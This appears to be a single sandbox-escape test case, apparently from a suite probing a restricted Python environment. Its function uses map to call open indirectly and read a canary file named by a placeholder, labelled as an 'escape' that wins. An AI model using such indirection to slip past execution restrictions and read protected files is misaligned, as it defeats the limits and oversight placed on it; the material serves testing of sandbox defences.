# desc: map calls what nobody seems to call
# class: escape
# wins: told
def attack(state):
    return "L2:" + list(map(open, ["@CANARY@"]))[0].read()
